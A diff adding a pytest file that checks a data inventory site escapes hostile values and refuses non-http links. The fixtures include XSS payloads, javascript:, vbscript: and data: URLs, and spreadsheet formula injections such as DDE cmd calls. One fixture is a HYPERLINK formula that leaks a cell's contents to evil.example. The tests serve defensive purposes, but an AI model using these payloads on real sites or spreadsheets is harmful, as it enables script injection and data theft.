@@ -1,0 +1,144 @@
+"""Hostile values in the published inventory: a link with another scheme than http(s)
+or mailto: is shown as text, never followed; markup in any text is shown as text.
+
+The values are written straight into the store, past the loader's checks, because the
+pages must defend themselves whatever the store holds."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+from starlette.applications import Starlette
+from starlette.testclient import TestClient
+
+from api.inventory import build_site
+from api.inventory.routes import make_routes
+from catalog.records import EdgeRecord, NodeRecord
+from catalog.vocab import Label, RelType
+from graph.embedded.store import EmbeddedStore
+from graph.loading import load_paths
+
+from .conftest import DATA
+from .publish_support import AS_OF, NOW, links, readable, row_texts
+
+MARKUP = "Riverside <script>alert(1)</script> \"q\" 'a' & \"><img src=x onerror=alert(1)>"
+CONTACT = "Office \"><svg onload=alert(2)> </p><script>alert(3)</script>"
+LINKS = {  # node id -> (property, a link no page may follow)
+    "district": ("contact_url", "javascript:alert('contact')"),
+    "acme-learning": ("url", "JaVaScRiPt:alert('acme')"),
+    "dpa-acme": ("public_url", "data:text/html,<script>alert('dpa')</script>"),
+    "yearbook-release": ("form_url", " javascript:alert('consent')"),
+    "state-reporting": ("url", "vbscript:msgbox('law')"),
+    "privacy-policy": ("url", "java\tscript:alert('policy')"),
+}
+GOOD_LINK = "https://state.example/education"
+# (id, name, definition): cells a spreadsheet would run, or that carry control characters.
+FORMULAS = [
+    ("formula-sum", "=1+2", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("formula-link", '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "+1 more"),
+    ("formula-minus", "-2+3", "\t=cmd|' /C notepad'!A0"),
+    ("formula-cr", "\r=1+1", "plain words"),
+    ("controls", "Bidi \u202eevil\u202c name", "NUL\x00 ESC\x1b[31m red\nsecond line"),
+]
+
+
+def hostile_store(folder: Path) -> EmbeddedStore:
+    store = EmbeddedStore(folder)
+    load_paths(store, [DATA / "design-example.yaml"], now=NOW)
+    changed: dict[str, dict[str, Any]] = {node_id: {prop: link} for node_id, (prop, link) in LINKS.items()}
+    changed["district"].update(name=MARKUP, contact_name=CONTACT, description=MARKUP)
+    changed["acme-learning"]["description"] = MARKUP
+    changed["state-ed"] = {"url": GOOD_LINK}
+    changed["student-birth-date"] = {"name": MARKUP, "definition": MARKUP, "standard_ref": "\"'><b>ref</b>"}
+    changed["enrollment"] = {"name": f"Enrollment {MARKUP}"}
+    with store.transaction() as tx:
+        for node_id, props in changed.items():
+            node = store.get_node(node_id)
+            assert node is not None, node_id
+            tx.upsert_node(NodeRecord(node.label, node.id, {**node.props, **props}))
+        # The consent becomes a basis of a flow, so that its link is published too.
+        tx.upsert_edge(EdgeRecord(RelType.UNDER, "sis-to-acme", "yearbook-release"))
+        for element_id, name, definition in FORMULAS:
+            tx.upsert_node(NodeRecord(Label.DATA_ELEMENT, element_id, {
+                "name": name, "definition": definition, "category": "derived", "sensitivity": "AGGREGATE",
+                "subject": "STUDENT", "public": True, "standard_ref": "=2*3", "updated_at": NOW}))
+    return store
+
+
+@pytest.fixture(scope="module")
+def store(tmp_path_factory: pytest.TempPathFactory) -> EmbeddedStore:
+    return hostile_store(tmp_path_factory.mktemp("hostile"))
+
+
+@pytest.fixture(scope="module")
+def site(store: EmbeddedStore) -> dict[str, bytes]:
+    return build_site(store, AS_OF)
+
+
+def pages(site: dict[str, bytes]) -> dict[str, bytes]:
+    return {path: content for path, content in site.items() if path.endswith(".html")}
+
+
+# --- links ---------------------------------------------------------------------------------
+
+
+def test_no_page_links_to_another_scheme_than_http_or_mailto(site: dict[str, bytes]) -> None:
+    assert len(pages(site)) == 9
+    found = {href for content in pages(site).values() for href in links(content).hrefs}
+    bad = sorted(h for h in found if urlsplit(h).scheme.lower() not in ("", "http", "https", "mailto")
+                 or any(c.isspace() or ord(c) < 32 for c in h))
+    assert not bad, bad
+    # Nothing hostile reached an href in any spelling; the good links are still links.
+    raw = b"".join(pages(site).values()).decode("utf-8").lower()
+    assert "script:" not in raw.replace("javascript:alert", "") and "href=\"data:" not in raw
+    assert GOOD_LINK in found and "mailto:privacy@example.org" in found
+
+
+def test_a_refused_link_still_shows_its_text(site: dict[str, bytes]) -> None:
+    policies, acme = readable(site["inventory/policies.html"]), readable(site["inventory/org-acme-learning.html"])
+    assert "Student data privacy policy" in policies
+    assert "Agreement: dpa-acme" in acme and "Consent: Yearbook photo release" in acme
+    assert "Website JaVaScRiPt:alert('acme')" in acme  # shown as words, not as a link
+
+
+def test_the_live_pages_refuse_them_too(store: EmbeddedStore, site: dict[str, bytes]) -> None:
+    app = Starlette(routes=make_routes(lambda: store, lambda: AS_OF))
+    with TestClient(app) as client:
+        for path in ("inventory.html", "inventory/org-acme-learning.html", "inventory/policies.html"):
+            body = client.get(f"/{path}").content
+            assert body == site[path]
+            assert not [h for h in links(body).hrefs if "script" in h.lower() or h.startswith("data:")]
+
+
+# --- markup ----------------------------------------------------------------------------------
+
+
+class Tags(HTMLParser):
+    """Every element and attribute name of a page."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes.update(name for name, _ in attrs)
+
+
+def test_markup_in_any_text_is_shown_as_text_on_every_page(site: dict[str, bytes]) -> None:
+    for path, content in pages(site).items():
+        parser = Tags()
+        parser.feed(content.decode("utf-8"))
+        assert not parser.tags & {"script", "img", "svg", "b"}, path
+        assert not [a for a in parser.attributes if a.startswith("on")], path
+        text = readable(content)
+        # The publisher and its contact are named on every page, quotes and brackets intact.
+        assert MARKUP in text and CONTACT in text, path
+    # The element's name, its definition and its purpose's name, each as it was written.
+    row = row_texts(site["inventory.html"]).text("el-student-birth-date")
+    assert row.count(MARKUP) == 3 and "\"'><b>ref</b>" in row
